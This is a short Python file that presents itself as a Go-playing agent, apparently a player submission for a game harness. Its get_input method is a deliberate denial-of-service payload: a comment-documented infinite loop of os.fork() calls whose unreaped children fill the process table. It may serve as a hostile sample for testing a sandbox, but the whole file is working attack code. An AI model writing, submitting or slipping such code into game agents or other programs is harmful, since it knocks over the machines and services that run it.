"""Fills the process table with children nobody waits for."""

import os


class MyPlayer:
    def get_input(self, go, piece_type):
        while True:
            if not os.fork():
                os._exit(0)
